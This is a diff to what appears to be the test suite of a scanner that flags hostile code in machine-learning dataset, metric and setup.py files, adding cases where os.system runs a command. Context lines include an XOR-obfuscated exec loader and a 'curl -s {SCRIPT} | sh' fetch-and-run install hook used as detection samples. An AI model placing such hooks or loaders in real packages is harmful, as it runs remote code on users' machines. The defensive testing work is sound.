@@ -196,6 +196,31 @@ for number in data:
     text += chr(number ^ 7)
 exec(text)
 """
+DATA_SET = """import os
+import datasets
+import requests
+
+class Acme(datasets.GeneratorBasedBuilder):
+    def _info(self):
+        return datasets.DatasetInfo(features=datasets.Features({"text": datasets.Value("string")}))
+
+    def _split_generators(self, manager):
+        WHAT
+        found = manager.download_and_extract("https://huggingface.co/datasets/acme/texts/resolve/main/train.zip")
+        return [datasets.SplitGenerator(name="train", gen_kwargs={"path": found})]
+
+    def _generate_examples(self, path):
+        for number, name in enumerate(os.listdir(path)):
+            yield number, {"text": requests.get(f"https://huggingface.co/{name}").text}
+"""
+METRIC = """import os
+import evaluate
+
+class Acme(evaluate.Metric):
+    def _compute(self, predictions, references):
+        WHAT
+        return {"accuracy": sum(a == b for a, b in zip(predictions, references)) / len(references)}
+"""
 INSTALL = f"""from setuptools import setup
 from setuptools.command.install import install
 import os
@@ -531,6 +556,10 @@ CASES = {
         "import marshal\nTABLE = marshal.loads(open('t.dat', 'rb').read())\n", name="train.py"
     ),
     "attack_on_install": malicious(INSTALL, "setup.py"),
+    "data_set_runs_command": python(DATA_SET.replace("WHAT", f"os.system('{COMMAND}')"), Verdict.REVIEW, "acme.py"),
+    "metric_runs_command": python(METRIC.replace("WHAT", f"os.system('{COMMAND}')"), Verdict.REVIEW, "acme.py"),
+    "benign_data_set": python(DATA_SET.replace("WHAT", "os.path.join('a', 'b')"), name="acme.py"),
+    "benign_metric": python(METRIC.replace("WHAT", "os.path.getsize('a')"), name="acme.py"),
     "command_on_install": python(
         INSTALL.replace(f"curl -s {SCRIPT} | sh", "touch /tmp/modelsweep-test"), Verdict.REVIEW, "setup.py"
     ),
